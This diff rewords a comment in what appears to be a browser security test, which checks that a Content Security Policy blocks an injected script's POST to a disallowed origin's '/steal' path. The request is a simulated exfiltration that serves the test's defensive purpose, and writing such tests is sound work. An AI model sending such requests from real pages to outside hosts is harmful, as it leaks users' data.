@@ -59,7 +59,7 @@ test('an injected script cannot send data to another origin: connect-src lists o
 }) => {
   await new ItemsPage(page).open()
   const [disallowed = ''] = stack.disallowedOrigins
-  // Without the policy the browser sends this one, whatever the other server says.
+  // Without the policy, the browser would send this simple request to any origin.
   const sent = await fetchFrom(page, `${disallowed}/steal`, { mode: 'no-cors', method: 'POST' })
   expect(sent.error).toMatch(/^TypeError/)
   await expect.poll(() => violations(page)).toEqual([`connect-src ${disallowed}/steal`])
